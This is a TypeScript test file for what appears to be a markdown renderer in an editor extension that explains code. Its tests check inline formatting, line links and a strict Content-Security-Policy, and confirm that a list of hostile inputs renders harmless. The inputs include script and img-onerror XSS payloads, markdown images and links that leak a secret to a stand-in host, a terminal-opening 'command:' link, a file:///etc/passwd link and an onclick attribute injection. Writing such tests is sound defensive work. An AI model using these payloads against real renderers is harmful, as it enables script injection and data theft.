import assert from "node:assert/strict";
import { test } from "node:test";
import { render } from "../src/markdown.ts";
import { page } from "../src/page/html.ts";

test("what is shown is formatted, also in the middle of a block of code", () => {
  assert.match(
    render("**Adds** `a`\n\n```python\nreturn a", URI),
    /<strong>Adds<\/strong> <code>a<\/code>[\s\S]*<pre><code/,
  );
});

const URI = "file:///home/me/a%20b.py";

test("a line of the explained code can be followed, however its address is escaped", () => {
  const link = '<a href="#" data-line="7"><code>a</code></a>';
  assert.match(render(`see [\`a\`](${URI}#L7)`, URI), new RegExp(link));
  assert.match(render("see [`a`](file:///home/me/a%20b.py#L7)", "file:///home/me/a b.py"), new RegExp(link));
});

const attacks = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "![x](https://elsewhere.example/?code=secret)",
  "![x][r]\n\n[r]: https://elsewhere.example/?code=secret",
  "[click](https://elsewhere.example/?code=secret)",
  "[click](command:workbench.action.terminal.new)",
  "<https://elsewhere.example/?code=secret>",
  "https://elsewhere.example/?code=secret",
  "[click](file:///etc/passwd#L1)",
  `[click](https://elsewhere.example/${"file:///home/me/a%20b.py"}#L1)`,
  '[click](file:///home/me/a%20b.py#L1"onclick="x)',
];

for (const attack of attacks) {
  test(`nothing runs, is fetched or can be followed: ${attack.slice(0, 40)}`, () => {
    assert.doesNotMatch(render(attack, URI), /<(script|img|a|iframe|form|link)\b/i);
  });
}

test("the page may load its own style and script, and nothing else", () => {
  const html = page({ script: "s.js", style: "s.css", nonce: "abc" });
  const policy = /Content-Security-Policy" content="([^"]*)"/.exec(html)?.[1];
  assert.equal(policy, "default-src 'none'; style-src 'nonce-abc'; script-src 'nonce-abc'");
});
